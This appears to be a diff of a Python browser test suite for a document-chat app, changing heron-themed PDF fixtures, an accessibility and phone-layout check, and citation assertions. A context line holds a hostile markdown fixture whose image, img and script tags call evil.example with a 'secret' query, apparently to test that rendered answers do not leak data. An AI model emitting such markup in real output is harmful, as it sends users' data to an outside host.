@@ -14,8 +14,10 @@ from ui.tests.browser.people import PASSWORD, PATIENCE, Tab, violations
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
 FEEDING = "A grey heron of two kilograms eats 330 grams of fish a day."
-FILLER = [f"Line {n} tells of reeds, mud and water, as every marsh has them in plenty." for n in range(40)]
-HERONS = pdf_of_pages([text_on_page(*FILLER), text_on_page("Feeding", FEEDING, *FILLER[:30])])
+# Pages long enough for passages of their own, of which only the second speaks of herons.
+REEDS = [f"Reed {n} is cut in autumn, dried in a barn and sold to those who thatch roofs." for n in range(45)]
+WATER = [f"Herons of pond {n} stand still for hours, and wait until something moves." for n in range(44)]
+HERONS = pdf_of_pages([text_on_page(*REEDS), text_on_page(FEEDING, *WATER)])
 HOSTILE = b"""# Ferry
 
 ![chart](http://evil.example/?q=secret) <img src="http://evil.example/?q=secret"> <script src="//evil.example"></script>
@@ -71,12 +73,13 @@ def reader(chat_server: ServerProcess, profile: Callable[..., BrowserContext]) -
     return new
 
 
-def looks(page: Page) -> list[str]:
-    """What axe finds, on a desktop in the light and on a phone in the dark; and whether the phone has to scroll."""
-    found = violations(page)
+def looks(page: Page, *, phone: bool = False) -> list[str]:
+    """What axe finds, on a desktop in the light or on a phone in the dark; and whether the phone has to scroll."""
+    if not phone:
+        return violations(page)
     page.emulate_media(color_scheme="dark")
     page.set_viewport_size({"width": 390, "height": 844})
-    found += violations(page)
+    found = violations(page)
     if page.evaluate("document.documentElement.scrollWidth") > 390:
         found.append(f"{page.url} is wider than a phone")
     page.emulate_media(color_scheme="light")
@@ -86,7 +89,7 @@ def looks(page: Page) -> list[str]:
 
 def test_from_the_drop_to_the_citation_at_its_page(reader: Callable[..., Reader], chat_server: ServerProcess) -> None:
     ada = reader()
-    found = looks(ada.page)
+    found = looks(ada.page, phone=True)
     ada.drop("herons.pdf", HERONS)
     found += looks(ada.page)
     ada.page.get_by_role("link", name="Ask in a chat").click()
@@ -94,17 +97,17 @@ def test_from_the_drop_to_the_citation_at_its_page(reader: Callable[..., Reader]
     expect(ada.page.get_by_role("combobox", name="Documents")).to_have_value("All documents", timeout=PATIENCE)
     answer = chat.ask("[[say So much fish [1], and more [9].]] How many grams of fish does a heron eat?")
     expect(answer.locator(".ck-words")).to_have_text("So much fish 1, and more.")
-    found += violations(ada.page)
+    found += looks(ada.page)
     with ada.page.context.expect_page() as opened:
         answer.locator(".ck-cite").click()
     passage = opened.value
     expect(passage.locator(".cited")).to_contain_text(FEEDING)
-    expect(passage.locator(".where")).to_contain_text("Page")
-    found += looks(passage)
+    expect(passage.locator(".where")).to_contain_text("Page 2")
+    found += looks(passage, phone=True)
     passage.close()
     with ada.page.context.expect_page() as opened:
         answer.get_by_role("link", name="How it was found").click()
-    expect(opened.value.get_by_text("shown as 1")).to_be_visible()
+    expect(opened.value.get_by_text("shown as 1").first).to_be_visible()
     found += looks(opened.value)
     opened.value.close()
 
@@ -127,7 +130,7 @@ def test_a_collection_opens_to_a_second_person_and_closes_again(reader: Callable
     ada.page.get_by_label("E-mail address").fill(bob.email)
     ada.press("Add")
     expect(ada.page.get_by_role("button", name=f"Remove {bob.email}")).to_be_visible()
-    found = looks(ada.page)
+    found = looks(ada.page, phone=True)
     bob.go(search, "Search in documents")
     found += looks(bob.page)
     bob.page.get_by_role("link", name="herons.pdf").first.click()
